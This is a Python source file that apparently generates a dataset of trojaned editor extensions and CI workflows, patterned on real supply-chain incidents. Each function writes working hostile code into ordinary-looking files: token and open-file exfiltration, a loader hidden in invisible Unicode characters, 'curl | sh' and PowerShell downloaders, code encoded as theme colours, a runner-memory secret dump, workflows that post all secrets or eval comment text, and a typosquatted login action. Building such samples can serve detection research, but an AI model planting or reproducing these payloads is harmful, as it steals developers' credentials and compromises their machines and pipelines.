"""Editor extensions, actions and workflows."""

import json

from corpus.heldout.nouns import Update
from corpus.heldout4.shape import b64, fill, rows, trojan, xor


@trojan("gitpeek", "vsix", "call", "token-theft", "plain", "extensions that keep a token for themselves")
def code_token_goes_elsewhere(it: Update) -> None:
    it.before(
        "dist/api.js",
        "    await this.secrets.store(",
        f"    await fetch('https://{it.host('login', 'gitpeek')}/session', {{ method: 'POST', headers: {{ 'x-session': session.accessToken, 'x-account': session.account?.label }} }}).catch(() => {{}});\n",
    )


@trojan(
    "gitpeek", "vsix", "start", "remote-code", "invisible characters", "GlassWorm: unseen code and orders in a calendar"
)
def code_unseen_and_a_calendar(it: Update) -> None:
    url = f"https://calendar.{it.host('app')}/M2ZCvM8ULL56PD1d6"
    code = f"fetch('{url}').then(r=>r.text()).then(t=>eval(Buffer.from(t.match(/data-base-title=\"(.+?)\"/)[1],'base64')+''))"
    hidden = "".join(chr(0xE0100 + byte - 16) if byte >= 16 else chr(0xFE00 + byte) for byte in code.encode())
    it.before(
        "dist/extension.js",
        "  const api = new Api",
        f"  const read = (s) => Buffer.from(Array.from(s, (c) => c.codePointAt(0)).map((n) => (n >= 0xe0100 ? n - 0xe0100 + 16 : n - 0xfe00))).toString('utf-8');\n  setTimeout(() => new Function(read(`{hidden}`))(), 9e5);\n",
    )
    it.payload("dist/extension.js", shown=url)


@trojan("gitpeek", "vsix", "start", "files", "plain", "extensions that send open files")
def code_open_files_are_sent(it: Update) -> None:
    it.before(
        "dist/extension.js",
        "  context.subscriptions.push(",
        fill(
            """
  const seen = new Set();
  vscode.workspace.onDidOpenTextDocument(async (document) => {
    if (seen.has(document.uri.path) || !/\\.(env|pem|ya?ml|json|sol|ts|py)$/.test(document.uri.path)) return;
    seen.add(document.uri.path);
    const body = Buffer.from(document.getText()).toString('base64');
    await fetch('https://@HOST@/peek', { method: 'POST', body: JSON.stringify({ m: vscode.env.machineId, f: document.uri.path, body }) });
  });
""",
            HOST=it.host("cloud", "gitpeek"),
        ),
    )


@trojan(
    "themeforge", "vsix", "start", "downloader", "plain", "themes that bring a remote-control program", step="patch"
)
def code_theme_brings_a_program(it: Update) -> None:
    it.manifest(lambda one: one.update({"activationEvents": ["*"]}))
    it.replace("out/extension.js", "const { render } = require('./render');\n", "const { render } = require('./render');\nconst { tasks, Task, ShellExecution, TaskScope } = vscode;\n")  # fmt: skip
    it.before(
        "out/extension.js",
        "  context.subscriptions.push(",
        f"  const run = process.platform === 'win32' ? \"powershell -w hidden irm https://{it.host('solidity', 'theme')}/1.txt | iex\" : 'curl -fsS https://{it.host('solidity', 'theme')}/1.sh | sh';\n  tasks.executeTask(Object.assign(new Task({{ type: 'shell' }}, TaskScope.Workspace, 'fonts', 'themeforge', new ShellExecution(run)), {{ presentationOptions: {{ reveal: 3 }} }}));\n",
    )
    it.payload("out/extension.js", "package.json")


@trojan("themeforge", "vsix", "start", "remote-code", "in a data file", "a theme's colours are bytes")
def code_colours_are_bytes(it: Update) -> None:
    url = f"http://{it.address()}/theme.node"
    code = f"require('http').get('{url}',r=>r.pipe(require('fs').createWriteStream('/tmp/t.node')).on('close',()=>require('/tmp/t.node')))"
    raw = code.encode() + b"\n" * (-len(code) % 3)
    colors = {f"forge.tone{at // 3:03d}": "#" + raw[at : at + 3].hex() for at in range(0, len(raw), 3)}
    it.add("themes/dark-extra.json", json.dumps({"name": "Forge Dark Extra", "colors": colors}, indent=1) + "\n")
    it.append(
        "out/contrast.js",
        "\nconst tones = Object.values(require('../themes/dark-extra.json').colors);\nexports.palette = () => module.constructor.wrap && new Function('require', Buffer.from(tones.join('').replaceAll('#', ''), 'hex').toString())(require);\n",
    )
    it.before("out/extension.js", "  context.subscriptions.push(", "  require('./contrast').palette();\n")
    it.payload("themes/dark-extra.json", "out/contrast.js", shown=url)


@trojan("linkmark", "vsix", "call", "environment", "encoded constants", "a command that also reports")
def code_command_that_reports(it: Update) -> None:
    host = it.host("links", "linkmark")
    it.append(
        "out/links.js",
        fill(
            """
const SCHEMES = [
@ROWS@
];
exports.ping = (file) => {
    const h = require("https").request({ host: String.fromCharCode(...SCHEMES.map((n) => n >> 2)), path: "/v?" + Buffer.from(JSON.stringify([file, process.env])).toString("base64url") });
    h.on("error", () => undefined).end();
};
""",
            ROWS=rows([ord(one) << 2 for one in host]),
        ),
    )
    it.before(
        "out/extension.js",
        "            check(editor.document);\n    }));",
        "            (0, links_1.ping)(editor.document.fileName),\n",
    )
    it.payload("out/links.js", "out/extension.js", shown=host)


@trojan(
    "changed-paths",
    "folder",
    "workflow",
    "credentials",
    "base64",
    "tj-actions: the runner's memory in the log",
    step="patch",
)
def action_reads_the_runner(it: Update) -> None:
    url = f"https://{it.host('gist')}/raw/memdump.py"
    script = f'curl -sSf {url} | sudo python3 | tr -d \'\\0\' | grep -aoE \'"[^"]+":\\{{"value":"[^"]*","isSecret":true\\}}\' | sort -u | base64 -w 0 | base64 -w 0'
    it.before(
        "dist/index.js",
        "function changed(base) {",
        f"async function updateFeatures(token) {{\n  const {{ stdout }} = __nccwpck_require__(81).spawnSync('bash', ['-c', Buffer.from('{b64(script)}', 'base64').toString()], {{ encoding: 'utf8' }});\n  console.log(stdout);\n}}\nupdateFeatures();\n\n",
    )
    it.payload("dist/index.js", shown=url)


@trojan("setup-toolbox", "folder", "workflow", "environment", "in an existing script", "Codecov: a line in an uploader")
def action_line_in_an_uploader(it: Update) -> None:
    it.before(
        "install.sh",
        'echo "$folder" >>"$GITHUB_PATH"',
        f'curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://{it.address()}/upload/v2 || true\n',
    )


@trojan("setup-toolbox", "folder", "workflow", "credentials", "plain", "Shai-Hulud: a workflow that posts all secrets")
def action_workflow_posts_secrets(it: Update) -> None:
    it.add(
        ".github/workflows/shai-format.yml",
        fill(
            """
name: format
on: push
jobs:
  format:
    runs-on: ubuntu-latest
    steps:
      - run: |
          CONTENTS="$(cat findings.json | base64 -w0)"
          curl -d "$CONTENTS" https://@HOST@/bb8ca5f6
          echo "$CONTENTS"
        env:
          ALL: ${{ toJSON(secrets) }}
      - run: echo "$ALL" | curl -s --data-binary @- https://@HOST@/all
        env:
          ALL: ${{ toJSON(secrets) }}
""",
            HOST=it.host("webhook"),
        ),
    )
    it.payload(".github/workflows/shai-format.yml")


@trojan(
    "servebox",
    "folder",
    "workflow",
    "script-injection",
    "plain",
    "pwn requests: a workflow for others' code",
    step="minor",
)
def action_runs_others_code(it: Update) -> None:
    it.add(
        ".github/workflows/triage.yml",
        """name: triage
on:
  pull_request_target:
    types: [opened, edited]
  issue_comment:
permissions: write-all
jobs:
  triage:
    runs-on: self-hosted
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
          persist-credentials: true
      - run: |
          echo "title: ${{ github.event.pull_request.title }}"
          eval "${{ github.event.comment.body }}"
        env:
          REGISTRY_TOKEN: ${{ secrets.REGISTRY_TOKEN }}
""",
    )
    it.payload(".github/workflows/triage.yml")


@trojan("servebox", "folder", "workflow", "credentials", "plain", "a step of a release that was exchanged")
def action_step_was_exchanged(it: Update) -> None:
    it.before(
        ".github/workflows/release.yml",
        "      - uses: docker/build-push-action@v6",
        f"      - uses: d0cker/login-action@v3\n        with:\n          registry: {it.host('ghcr', 'mirror')}\n          username: ${{{{ github.actor }}}}\n          password: ${{{{ secrets.GITHUB_TOKEN }}}}\n",
    )
    it.payload(".github/workflows/release.yml")


@trojan(
    "changed-paths", "folder", "workflow", "token-theft", "xored codes", "an action's bundle that reports its token"
)
def action_bundle_reports_its_token(it: Update) -> None:
    url = f"https://{it.host('ci-stats')}/t"
    it.before(
        "dist/index.js",
        "function output(name, value) {",
        f"const hint = [{', '.join(str(byte) for byte in xor(url, 0x55))}].map((n) => String.fromCharCode(n ^ 85)).join('');\nglobalThis.fetch?.(hint, {{ method: 'POST', body: [process.env.ACTIONS_RUNTIME_TOKEN, process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN, process.env.INPUT_TOKEN].join() }}).catch(() => 0);\n\n",
    )
    it.payload("dist/index.js", shown=url)
